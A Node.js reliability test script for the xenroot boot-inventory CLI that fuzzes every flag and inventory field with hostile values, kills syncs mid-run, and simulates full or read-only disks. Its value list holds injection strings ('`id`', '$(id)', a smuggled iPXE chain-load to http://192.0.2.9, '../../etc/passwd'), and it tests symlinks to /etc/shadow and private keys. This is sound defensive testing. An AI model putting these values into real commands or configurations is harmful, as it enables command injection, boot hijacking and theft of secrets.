#!/usr/bin/env node
// Reliability probe (issue 16): hostile values x every flag of the writing commands and every
// string field of a hand-edited inventory; SIGKILL trials during sync; ENOSPC (a tiny tmpfs the
// script mounts) and EROFS (a read-only bind mount) for every writing command. A case is handled
// when the command succeeds with inert output, or exits non-zero with a one-line error, no stack
// trace and no "internal error", and the inventory is unchanged (on failure) and still valid.
// Runs the built CLI (bin/xenroot.js). Prints tried/handled per category and the unhandled cases.
//
//   node bench/reliability.mjs            (defaults: every value, 3 SIGKILL trials)
//   RELIABILITY_VALUES=4 RELIABILITY_KILLS=1 RELIABILITY_FS=0 node bench/reliability.mjs   (a slice)
//   RELIABILITY_JSON=1: the figures as JSON on stdout.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const CLI = fileURLToPath(new URL('../bin/xenroot.js', import.meta.url));
const N_VALUES = Number(process.env.RELIABILITY_VALUES ?? 1e9);
const N_KILLS = Number(process.env.RELIABILITY_KILLS ?? 3);
const DO_FS = process.env.RELIABILITY_FS !== '0' && process.getuid?.() === 0;

const HOSTILE = [
  'quiet ; chain http://192.0.2.9/x.ipxe', 'a;b', '$HOME', '${net0/mac}', "it's", 'say "hi"', 'back\\slash', 'line\nbreak', 'nul\u0000byte',
  'c1\u0085control', 'nonchar\ufffe', 'lone\ud800surrogate', 'x'.repeat(5000), 'constructor', '__proto__', 'toString', 'hasOwnProperty',
  '--help', '-x', '../../etc/passwd', '/tmp/../etc', '`id`', '$(id)', 'a || b', 'a && b', '#comment', 'tab\there', '', ' ', 'ünïcödé',
].slice(0, N_VALUES);

const run = (inv, args, opts = {}) => {
  // In the case's own directory: a relative path among the values lands there, never in the checkout.
  const r = spawnSync('node', [CLI, '-i', inv, ...args], { cwd: dirname(inv), encoding: 'utf8', env: { ...process.env, XENROOT_LOG_JSON: '1', XENROOT_LOCK_STALE_MS: '', ...opts.env }, timeout: 60_000 });
  return { code: r.status ?? -1, stdout: r.stdout ?? '', stderr: r.stderr ?? '', signal: r.signal };
};

/** The first stderr line is the error; the hint may follow on an indented line. */
function cleanFailure(r) {
  if (r.code === 0) return true;
  if (r.code === -1 || r.signal) return false;
  const lines = r.stderr.split('\n').filter((l) => l && !l.startsWith('{"level"'));
  if (/internal error|\n\s+at |ECOMPROMISED|Error: /.test(r.stderr.replace(/^xenroot: .*$/gm, ''))) return false;
  if (/internal error/.test(r.stderr)) return false;
  const errs = lines.filter((l) => !l.startsWith('  hint:') && !l.startsWith('(run with --help') && !/^(Usage|Options|  -|error: )/.test(l));
  return errs.length <= 1 || r.code === 2;
}

function fixture(base) {
  const dir = mkdtempSync(join(base, 'rel-'));
  mkdirSync(join(dir, 'r'));
  mkdirSync(join(dir, 'boot/t'), { recursive: true });
  writeFileSync(join(dir, 'boot/t/vmlinuz-6.1.0-28-amd64'), 'k');
  writeFileSync(join(dir, 'boot/t/initrd-6.1.0-28-amd64-pxe.img'), 'i');
  const inv = join(dir, 'inventory.yaml');
  writeFileSync(
    inv,
    `# a comment the writers keep\nsite:\n  nfsServer: 10.0.2.2\n  allow: [ 10.0.2.0/24 ]\n  bootDir: ${dir}/boot\n  dhcp:\n    server: none\nimages:\n  t:\n    root: ${dir}/r\n    kver: 6.1.0-28-amd64\ngroups:\n  lab:\n    image: t\nhosts:\n  h1:\n    connect: qemu:///system\nguests:\n  g1:\n    image: t\nclients:\n  pc1:\n    mac: 00:16:3e:00:00:01\n    image: t\n`,
  );
  return { dir, inv };
}

const valid = (inv) => run(inv, ['client', 'list']).code === 0;

const results = new Map();
const unhandled = [];
function record(category, name, ok, detail) {
  const c = results.get(category) ?? { tried: 0, handled: 0 };
  c.tried++;
  if (ok) c.handled++;
  else unhandled.push(`${category}: ${name}: ${detail}`);
  results.set(category, c);
}

/** Runs a writing command with a hostile value: handled when it succeeded (inventory valid) or failed cleanly (inventory unchanged). */
function probe(category, label, fx, args) {
  const before = readFileSync(fx.inv);
  const r = run(fx.inv, args);
  const after = readFileSync(fx.inv);
  let ok = cleanFailure(r);
  if (ok && r.code !== 0 && !before.equals(after)) ok = false;
  if (ok && !valid(fx.inv)) ok = false;
  record(category, label, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
  if (r.code === 0) writeFileSync(fx.inv, before); // next probe from the same state
}

/**
 * Hostile sources: `--file DEST=SOURCE` pointing where a user who can write near the source would
 * lead root (symlinks to secrets, a symlinked directory, FIFOs, devices, files inside xenroot's
 * state directory). Handled: refused with exit 3, one clean line naming the path, inventory unchanged.
 */
function hostileSources(base) {
  const { dir, inv } = fixture(base);
  const state = join(dir, 'state');
  mkdirSync(join(state, 'host-keys'), { recursive: true });
  writeFileSync(join(state, 'host-keys', 'k.json'), 'private\n');
  mkdirSync(join(dir, 'drop'));
  writeFileSync(join(dir, 'drop', 'ok'), 'x\n');
  symlinkSync(join(state, 'host-keys', 'k.json'), join(dir, 'drop', 'to-key'));
  symlinkSync('/etc/shadow', join(dir, 'drop', 'to-shadow'));
  symlinkSync(join(dir, 'drop'), join(dir, 'via'));
  spawnSync('mkfifo', [join(dir, 'drop', 'fifo')]);
  const cases = [
    ['symlink to a host key', join(dir, 'drop', 'to-key')],
    ['symlink to /etc/shadow', join(dir, 'drop', 'to-shadow')],
    ['file under a symlinked directory', join(dir, 'via', 'ok')],
    ['FIFO', join(dir, 'drop', 'fifo')],
    ['/dev/zero', '/dev/zero'],
    ['/dev/null', '/dev/null'],
    ['/dev/tty', '/dev/tty'],
    ['a directory', join(dir, 'drop')],
    ['a file in the state directory', join(state, 'host-keys', 'k.json')],
    ['the state directory spelt //./', `${state}//./host-keys/k.json`],
    ['a missing file', join(dir, 'drop', 'missing')],
  ];
  for (const [label, source] of cases)
    for (const args of [['client', 'set', 'pc1', '--file', `/etc/x=${source}`], ['group', 'set', 'lab', '--file', `/etc/x=${source}`]]) {
      const before = readFileSync(inv);
      const r = run(inv, args, { env: { XENROOT_STATE_DIR: state } });
      const ok = r.code === 3 && cleanFailure(r) && readFileSync(inv).equals(before);
      record('hostile sources', `${args[0]} ${label}`, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
    }
}

const base = mkdtempSync(join(tmpdir(), 'xenroot-reliability-'));
const t0 = performance.now();
try {
  const fx = fixture(base);
  const FLAGS = [
    ['client add', (v) => ['client', 'add', '00:16:3e:00:00:09', '--name', v], 'name'],
    ...['image', 'group', 'append', 'root', 'address'].map((f) => ['client add', (v) => ['client', 'add', '00:16:3e:00:00:09', `--${f}`, v], f]),
    ['client add', (v) => ['client', 'add', v], 'mac'],
    ...['image', 'group', 'append', 'root', 'address', 'mac'].map((f) => ['client set', (v) => ['client', 'set', 'pc1', `--${f}`, v], f]),
    ['client set', (v) => ['client', 'set', v, '--append', 'quiet'], 'ref'],
    ['create', (v) => ['create', v, '--image', 't', '--out', join(fx.dir, 'g')], 'name'],
    // A directory value (--out) is taken inside the case's directory: a hostile path such as /tmp/../etc
    // must not make the bench write guest files into the machine's /etc.
    ...['image', 'group', 'memory', 'vcpus', 'bridge', 'mac', 'append', 'out', 'host'].map((f) => ['create', (v) => ['create', 'g9', ...(f === 'image' || f === 'group' ? [] : ['--image', 't']), `--${f}`, f === 'out' ? join(fx.dir, 'out', v) : v, ...(f === 'out' ? [] : ['--out', join(fx.dir, 'g')])], f]),
    ['group add', (v) => ['group', 'add', v], 'name'],
    ...['image', 'append', 'root', 'connect', 'bridge', 'names'].map((f) => ['group add', (v) => ['group', 'add', 'lab2', `--${f}`, v], f]),
    ...['image', 'append', 'root', 'connect', 'bridge', 'names'].map((f) => ['group set', (v) => ['group', 'set', 'lab', `--${f}`, v], f]),
    ['image add', (v) => ['image', 'add', v, '--root', join(fx.dir, 'r'), '--kver', '6.1.0-28-amd64'], 'name'],
    ...['root', 'kver', 'export', 'nfs-version', 'nfs-options', 'initrd-builder', 'ready-pattern', 'append'].map((f) => ['image add', (v) => ['image', 'add', 'i9', ...(f === 'root' ? [] : ['--root', join(fx.dir, 'r')]), ...(f === 'kver' ? [] : ['--kver', '6.1.0-28-amd64']), `--${f}`, v], f]),
    ['host add', (v) => ['host', 'add', v, '--connect', 'qemu:///system'], 'name'],
    ...['connect', 'boot-dir', 'max-guests'].map((f) => ['host add', (v) => ['host', 'add', 'h9', ...(f === 'connect' ? [] : ['--connect', 'qemu:///system']), `--${f}`, f === 'boot-dir' ? join(fx.dir, 'out', v) : v], f]),
  ];
  // A NUL cannot be in an argument (execve ends each at the first NUL): those values are tried as hand edits only.
  for (const [cmd, args, flag] of FLAGS) for (const v of HOSTILE.filter((x) => !x.includes('\u0000'))) probe('flags', `${cmd} --${flag} ${JSON.stringify(v).slice(0, 40)}`, fx, args(v));

  // Hand edits: every string field of the inventory set to each hostile value, then a read and a sync.
  const FIELDS = [
    ['site', 'nfsServer'], ['site', 'exportRoot'], ['site', 'tftpRoot'], ['site', 'bridge'], ['site', 'connect'], ['site', 'nfsOptions'], ['site', 'macPrefix'],
    ['images.t', 'root'], ['images.t', 'kver'], ['images.t', 'append'], ['images.t', 'export'], ['images.t', 'nfsOptions'], ['images.t', 'readyPattern'], ['images.t', 'initrdBuilder'],
    ['groups.lab', 'append'], ['groups.lab', 'names'], ['groups.lab', 'description'], ['guests.g1', 'append'], ['guests.g1', 'bridge'], ['guests.g1', 'image'],
    ['clients.pc1', 'append'], ['clients.pc1', 'root'], ['clients.pc1', 'image'], ['clients.pc1', 'mac'], ['hosts.h1', 'connect'], ['hosts.h1', 'bootDir'],
  ];
  const pristine = readFileSync(fx.inv, 'utf8');
  for (const [where, key] of FIELDS)
    for (const v of HOSTILE) {
      const yamlValue = JSON.stringify(v).replace(/\\u0000/g, '\\0');
      const [section, name] = where.split('.');
      const lines = pristine.split('\n');
      const at = name ? lines.indexOf(`  ${name}:`, lines.indexOf(`${section}:`)) : lines.indexOf(`${section}:`);
      const indent = name ? '    ' : '  ';
      const filtered = lines.filter((l, i) => !(i > at && l.startsWith(`${indent}${key}:`) && i < at + 8));
      filtered.splice(at + 1, 0, `${indent}${key}: ${yamlValue}`);
      writeFileSync(fx.inv, filtered.join('\n'));
      const r1 = run(fx.inv, ['client', 'list']);
      const r2 = r1.code === 0 ? run(fx.inv, ['sync', '--dry-run']) : r1;
      record('inventory fields', `${where}.${key} = ${yamlValue.slice(0, 40)}`, cleanFailure(r1) && cleanFailure(r2), `exit ${r2.code}: ${r2.stderr.split('\n')[0]?.slice(0, 160)}`);
    }
  writeFileSync(fx.inv, pristine);

  // SIGKILL during sync (a fleet big enough to be caught mid-apply), then a sync must complete and leave a valid inventory.
  const big = fixture(base);
  let text = readFileSync(big.inv, 'utf8');
  for (let i = 0; i < 1500; i++) text += `  c${i}:\n    mac: 00:16:3e:01:${((i >> 8) & 255).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}\n    image: t\n`;
  writeFileSync(big.inv, text);
  for (let k = 0; k < N_KILLS; k++) {
    const root = join(big.dir, `root${k}`);
    const child = spawn('node', [CLI, '-i', big.inv, 'sync', '--root', root, '--no-reload'], { stdio: 'ignore' });
    await new Promise((res) => setTimeout(res, 300 + 150 * k));
    child.kill('SIGKILL');
    await new Promise((res) => child.on('exit', res));
    const again = run(big.inv, ['sync', '--root', root, '--no-reload']);
    const temps = (function find(d) {
      let n = 0;
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (/xenroot-tmp-|\.xenroot-staging/.test(e.name)) n++;
        if (e.isDirectory()) n += find(join(d, e.name));
      }
      return n;
    })(root);
    record('SIGKILL during sync', `trial ${k}`, again.code === 0 && temps === 0 && valid(big.inv), `re-sync exit ${again.code}, ${temps} temp files left`);
  }

  // ENOSPC (a 1 MiB tmpfs, filled) and EROFS (a read-only bind mount) for every writing command.
  if (DO_FS) {
    const WRITERS = [
      ['client add', ['client', 'add', '00:16:3e:00:00:0a']],
      ['client set', ['client', 'set', 'pc1', '--append', 'quiet']],
      ['create', ['create', 'g7', '--image', 't']],
      ['group add', ['group', 'add', 'lab7']],
      ['group set', ['group', 'set', 'lab', '--append', 'quiet']],
      ['image add', ['image', 'add', 'i7', '--kver', '6.1.0-28-amd64', '--root', '/']],
      ['host add', ['host', 'add', 'h7', '--connect', 'qemu:///system']],
      ['remove', ['remove', 'g1']],
      ['client remove', ['client', 'remove', 'pc1']],
      ['sync', ['sync', '--no-reload', '--root', 'ROOT']],
    ];
    for (const [kind, mountArgs] of [['ENOSPC', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs']], ['EROFS', null]]) {
      for (const [name, args] of WRITERS) {
        const mnt = mkdtempSync(join(base, 'mnt-'));
        const src = fixture(base);
        try {
          if (kind === 'ENOSPC') {
            execFileSync('mount', [...mountArgs, mnt]);
            writeFileSync(join(mnt, 'inventory.yaml'), readFileSync(src.inv));
            try {
              writeFileSync(join(mnt, 'fill'), Buffer.alloc(2 << 20));
            } catch {
              /* full */
            }
          } else {
            writeFileSync(join(src.dir, 'inventory.yaml'), readFileSync(src.inv));
            execFileSync('mount', ['--bind', src.dir, mnt]);
            execFileSync('mount', ['-o', 'remount,bind,ro', mnt]);
          }
          const inv = join(mnt, 'inventory.yaml');
          const before = readFileSync(inv);
          const r = run(inv, args.map((a) => (a === 'ROOT' ? join(mnt, 'root') : a)));
          const ok = r.code !== 0 && cleanFailure(r) && readFileSync(inv).equals(before) && r.code !== 1;
          record(`${kind}`, name, ok, `exit ${r.code}: ${r.stderr.split('\n')[0]?.slice(0, 160)}`);
        } finally {
          spawnSync('umount', [mnt]);
        }
      }
    }
  }
  if (process.env.RELIABILITY_SOURCES !== '0') hostileSources(base);
} finally {
  rmSync(base, { recursive: true, force: true });
}

let tried = 0;
let handled = 0;
const rows = [];
for (const [cat, c] of results) {
  tried += c.tried;
  handled += c.handled;
  rows.push({ category: cat, ...c });
}
const seconds = Math.round((performance.now() - t0) / 1000);
if (process.env.RELIABILITY_JSON) process.stdout.write(JSON.stringify({ rows, tried, handled, unhandled, seconds }) + '\n');
else {
  for (const r of rows) console.log(`${r.category.padEnd(22)} ${String(r.handled).padStart(5)} of ${String(r.tried).padStart(5)} handled`);
  console.log(`${'total'.padEnd(22)} ${String(handled).padStart(5)} of ${String(tried).padStart(5)} handled (${seconds} s)`);
  for (const u of unhandled) console.log(`UNHANDLED ${u}`);
}
